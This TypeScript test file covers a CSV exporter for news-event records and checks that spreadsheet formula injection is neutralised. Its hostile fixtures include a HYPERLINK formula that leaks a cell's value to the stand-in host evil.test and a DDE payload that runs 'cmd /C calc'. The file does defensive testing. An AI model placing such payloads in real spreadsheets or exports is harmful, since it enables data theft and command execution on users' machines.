import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { StoredEvent } from '../../index.js';
import { contractDocs } from '../../store/store.contract.js';
import { parseCsv } from '../../test-support/csv.js';
import { CSV_HEADER, csvField, formatEventCsvRow } from './format-events.js';

test('the test CSV reader follows RFC 4180 and refuses malformed input', () => {
  assert.deepEqual(parseCsv('a,"b,c","say ""hi""\r\nthere",\r\nx,y,z,\r\n'), [['a', 'b,c', 'say "hi"\r\nthere', ''], ['x', 'y', 'z', '']]);
  assert.throws(() => parseCsv('a"b\r\n'), /quote inside an unquoted field/);
  assert.throws(() => parseCsv('"open\r\n'), /unterminated/);
  assert.throws(() => parseCsv('"a"b\r\n'), /unexpected "b"/);
});

test('a cell a spreadsheet would run as a formula is made plain text; numbers stay numbers', () => {
  assert.equal(csvField('=HYPERLINK("http://evil.test","x")'), `"'=HYPERLINK(""http://evil.test"",""x"")"`);
  for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.ok(csvField(`${start}cmd`).replace(/^"/, '').startsWith(`'${start}`), JSON.stringify(start));
  assert.equal(csvField(-10), '-10');
  assert.equal(csvField(-33.9), '-33.9');
  assert.equal(csvField('-10'), '-10');
  assert.equal(csvField('+4.5e3'), '+4.5e3');
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField(-Infinity), "'-Infinity");
  assert.equal(csvField('a=b'), 'a=b');
});

/** One stored event with hostile text in every field that comes from the article or the caller. */
function hostileEvent(): StoredEvent {
  const { shelling } = contractDocs();
  const base = shelling.layers.events![0]!;
  const hostile = { start: 0, end: 1 };
  return {
    id: 'd:e1', docId: 'd', url: 'https://example.test/?q=1,2', published: '2031-03-12',
    event: {
      ...base, goldstein: -10,
      actors: [{ ...hostile, text: '=HYPERLINK("http://evil.test/?leak="&A1,"click")', code: '@SUM(A1:A9)' }],
      recipients: [{ ...hostile, text: '+1+cmd|\' /C calc\'!A0', code: '-2+3' }],
      location: { name: '\tTab, town', country: 'SLD', lat: -33.9, lon: 18.4, from: 'sentence' },
      trigger: { ...hostile, text: '\rshell\nline' },
    },
  };
}

test('CSV read back with an RFC 4180 reader gives every field, hostile cells neutralised, numbers intact', () => {
  const stored = hostileEvent();
  const rows = parseCsv(`${CSV_HEADER.join(',')}\r\n${formatEventCsvRow(stored)}`);
  assert.equal(rows.length, 2);
  const [header, row] = rows as [string[], string[]];
  assert.deepEqual(header, CSV_HEADER);
  assert.equal(row.length, header.length);
  const cell = (name: string): string => row[header.indexOf(name)] ?? assert.fail(`no column ${name}`);
  assert.equal(cell('actor'), `'=HYPERLINK("http://evil.test/?leak="&A1,"click")`);
  assert.equal(cell('actor_code'), "'@SUM(A1:A9)");
  assert.equal(cell('recipient'), "'+1+cmd|' /C calc'!A0");
  assert.equal(cell('recipient_code'), "'-2+3");
  assert.equal(cell('place'), "'\tTab, town");
  assert.equal(cell('trigger'), "'\rshell\nline");
  assert.equal(cell('goldstein'), '-10');
  assert.equal(cell('lat'), '-33.9');
  assert.equal(cell('url'), 'https://example.test/?q=1,2');
  for (const value of row) assert.doesNotMatch(value, /^[=+@\t\r]|^-(?!\d)/, `cell ${JSON.stringify(value)} starts a formula`);
});

test('a code column holds codes only, and a group standing for several coded members is named once', () => {
  const { shelling } = contractDocs();
  const base = shelling.layers.events![0]!;
  const group = { start: 0, end: 24, text: 'Envoys of Vell and Nordo' };
  const stored: StoredEvent = {
    id: 'd:e2', docId: 'd',
    event: {
      ...base,
      actors: [{ ...group, code: 'VELGOV', country: 'VEL' }, { ...group, code: 'NRDGOV', country: 'NRD' }],
      recipients: [{ start: 30, end: 36, text: 'Vell army', code: 'VELMIL', country: 'VEL' }, { start: 40, end: 55, text: 'hill militias' }],
    },
  };
  const [header, row] = parseCsv(`${CSV_HEADER.join(',')}\r\n${formatEventCsvRow(stored)}`) as [string[], string[]];
  const cell = (name: string): string => row[header.indexOf(name)] ?? assert.fail(`no column ${name}`);
  assert.equal(cell('actor'), 'Envoys of Vell and Nordo');
  assert.equal(cell('actor_code'), 'VELGOV+NRDGOV');
  assert.equal(cell('recipient'), 'Vell army + hill militias');
  assert.equal(cell('recipient_code'), 'VELMIL');
  assert.equal(cell('reciprocal'), 'false');
  const mutual = parseCsv(`${CSV_HEADER.join(',')}\r\n${formatEventCsvRow({ ...stored, event: { ...stored.event, reciprocal: true } })}`)[1]!;
  assert.equal(mutual[header.indexOf('reciprocal')], 'true');
});
